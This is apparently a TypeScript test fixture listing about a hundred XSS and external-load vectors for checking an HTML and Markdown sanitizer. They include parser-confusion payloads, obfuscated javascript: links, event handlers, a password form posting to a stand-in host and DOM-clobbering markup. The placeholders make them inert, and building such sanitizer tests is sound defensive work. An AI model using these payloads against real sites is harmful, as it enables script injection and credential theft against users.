/**
 * Texts of an author who wants to run a script, load something, or leave the place where a text stands. `RUN` calls a
 * function that a test watches, `AWAY` is a host that nothing may reach.
 */
const VECTORS = String.raw`
<script>RUN</script>
<script src="AWAY/script.js"></script>
<scr<script>ipt>RUN</scr</script>ipt>
<img src=x onerror="RUN">
<img src=x onerror=RUN//
<IMG SRC="jav&#x09;ascript:RUN">
<img/src="x"/onerror=RUN>
<img src=${'`'}x${'`'} onerror=RUN>
<img src="AWAY/image.gif">
<img srcset="AWAY/srcset.gif 1x">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iUlVOIi8+">
<picture><source srcset="AWAY/source.gif"><img src=x></picture>
<video poster="AWAY/poster.gif" src="AWAY/video"><track src="AWAY/track"></video>
<audio src="AWAY/audio" autoplay></audio>
<object data="AWAY/object"></object>
<embed src="AWAY/embed">
<iframe src="AWAY/iframe"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<frameset onload=RUN></frameset>
<link rel=stylesheet href="AWAY/style.css">
<link rel=prefetch href="AWAY/prefetch">
<link rel=dns-prefetch href="//AWAYHOST">
<link rel=preconnect href="AWAY">
<meta http-equiv=refresh content="0;url=AWAY/refresh">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<base href="AWAY/base/"><img src="relative.gif">
<style>body { background: url(AWAY/css.gif) } * { display: none !important }</style>
<style>@import "AWAY/import.css";</style>
<p style="position:fixed;inset:0;z-index:9;background:url(AWAY/attribute.gif)">over everything</p>
<p style="behavior:url(AWAY/x)">old</p>
<div class="mantine-Overlay-root" style="all:initial">class</div>
<table background="AWAY/background.gif"><tr><td background="AWAY/cell.gif">a</td></tr></table>
<body background="AWAY/body.gif" onload=RUN>
<form action="AWAY/form"><input name=password value=x><button>Sign in</button></form>
<input type=image src="AWAY/input.gif" formaction="AWAY/formaction">
<button form=f formaction="javascript:RUN">x</button>
<select autofocus onfocus=RUN><option>1</select>
<textarea autofocus onfocus=RUN></textarea>
<isindex action="AWAY/isindex">
<keygen autofocus onfocus=RUN>
<a href="javascript:RUN">link</a>
<a href="JaVaScRiPt&colon;RUN">link</a>
<a href=" &#14; javascript:RUN">link</a>
<a href="java&Tab;script:RUN">link</a>
<a href="data:text/html,<script>RUN</script>">link</a>
<a href="vbscript:RUN">link</a>
<a href="blob:AWAY/1">link</a>
<a href="https://bank.example@AWAYHOST/">looks like another</a>
<a href="AWAY/ping" ping="AWAY/pinged">link</a>
<a href="AWAY/opener" target=_top rel=opener>link</a>
<a href="AWAY/self" target=root>link</a>
<area href="javascript:RUN"><map name=m><area href="AWAY/area" shape=default></map>
[link](javascript:RUN)
[link](<javascript:RUN>)
[link]: javascript:RUN "a"  [link]
![image](AWAY/markdown.gif)
![image]("onerror="RUN)
![image](x"onerror="RUN)
<javascript:RUN>
[a](https://x.example "title\" onmouseover=RUN")
<svg onload=RUN></svg>
<svg><script>RUN</script></svg>
<svg><image href="AWAY/svg.gif" xlink:href="AWAY/svg2.gif"/></svg>
<svg><use href="AWAY/use.svg#x"/></svg>
<svg><foreignObject><iframe src="AWAY/foreign"></iframe></foreignObject></svg>
<svg><a xlink:href="javascript:RUN"><text x=0 y=20>x</text></a></svg>
<svg><animate attributeName=href values=javascript:RUN /></svg>
<svg><set attributeName=onmouseover to=RUN></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><mi//xlink:href="data:x,<script>RUN</script>">
<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noembed><img title="</noembed><img src onerror=RUN>"></noembed>
<noframes><img title="</noframes><img src onerror=RUN>"></noframes>
<xmp><p title="</xmp><img src=x onerror=RUN>">
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<title><a title="</title><img src=x onerror=RUN>">
<textarea><img title="</textarea><img src=x onerror=RUN>">
<template><img src=x onerror=RUN></template>
<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=RUN>">
<option><style></option></select><b><img src=x onerror=RUN></style></option>
<table><td><select><svg></svg></select><img src=x onerror=RUN></td></table>
<!--><img src=x onerror=RUN>-->
<!--!><img src=x onerror=RUN>
<![CDATA[<img src=x onerror=RUN>]]>
<?xml-stylesheet href="javascript:RUN"?><img src=x onerror=RUN>
</p></div></section><p onclick=RUN>out of the box</p>
<p id=root name=cookie>an id</p><img name=getElementById src=x><a id=oriel-config name=parentNode>x</a>
<form id=defaultView><input name=attributes></form>
<p data-part=chart data-scheme=dark aria-label=x role=dialog tabindex=0 contenteditable accesskey=x draggable=true>attributes</p>
<dialog open>dialog</dialog><p popover=manual>popover</p>
<marquee onstart=RUN>x</marquee>
<details open ontoggle=RUN><summary>x</summary>y</details>
<x-element onfocus=RUN tabindex=0 autofocus>custom</x-element>
<p is=x-element slot=a part=b>is</p>
<a href="#root" onclick=RUN autofocus onfocus=RUN>x</a>
<div onpointerrawupdate=RUN onanimationstart=RUN onbeforetoggle=RUN onscrollend=RUN>x</div>
${'<b>'.repeat(600)}<img src=x onerror=RUN>
${'> '.repeat(4000)}<img src=x onerror=RUN>
${'<div>'.repeat(300)}<svg><style><img src=x onerror=RUN></style>
`;

/** Each with what a test watches. @param origin of the host that nothing may reach */
export function hostileTexts(origin: string): string[] {
  const host = new URL(origin).host;
  return VECTORS.trim()
    .split('\n')
    .map((text) =>
      text.replaceAll('AWAYHOST', host).replaceAll('AWAY', origin).replaceAll('RUN', 'window.ran()'),
    );
}
